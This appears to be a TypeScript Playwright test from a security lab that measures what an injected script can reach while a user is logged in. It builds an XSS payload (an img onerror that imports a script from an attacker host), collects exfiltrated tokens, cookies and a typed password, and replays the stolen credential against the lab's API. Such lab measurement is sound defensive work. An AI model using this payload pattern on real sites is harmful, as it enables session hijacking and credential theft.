// What an injected script can do on the lab's page while a user is logged in.
import type { BrowserContext } from 'playwright-core';
import type { Attacker } from './attacker.js';
import type { Observation } from './places.js';
import { addressOf, logIn, openPage, type Place } from './storage-page.js';

export async function observeInjection(
  browser: BrowserContext,
  lab: string,
  attacker: Attacker,
  place: Place,
): Promise<Observation> {
  const page = await openPage(browser, lab, place);
  const { body } = await logIn(page);
  const token = body.access_token;
  const credential = token ?? (await browser.cookies(lab)).find(({ httpOnly }) => httpOnly)?.value;
  if (!credential) throw new Error('The log-in gave no credential');

  // The page's hole: what follows #greeting= becomes part of it, as HTML.
  const markup = `<img src="" onerror="import('${attacker.otherSite}/injected.js')">`;
  await page.goto(`${addressOf(lab, place)}#greeting=${encodeURIComponent(markup)}`);
  const [toOtherSite, toOtherPort] = await attacker.collect(2);
  const { readable, me } = JSON.parse(toOtherSite?.body ?? '');
  await page.getByLabel('Password').fill('a new password');
  const [typed] = await attacker.collect(1);
  await page.close();

  const text = JSON.stringify(readable);
  const holdsIt = (...texts: (string | undefined)[]) => texts.some((each) => each?.includes(credential));
  const stolen = token ? { authorization: `Bearer ${token}` } : { cookie: toOtherPort?.cookie ?? '' };
  return {
    isRead: holdsIt(text),
    goesToOtherSite: holdsIt(text, toOtherSite?.cookie),
    goesToOtherPort: holdsIt(text, toOtherPort?.cookie),
    worksElsewhere: (await fetch(`${lab}/api/${place.mode}/me`, { headers: stolen })).ok,
    isUsed: me.username === 'alice',
    isPasswordRead: JSON.parse(typed?.body ?? '').typed === 'a new password',
  };
}
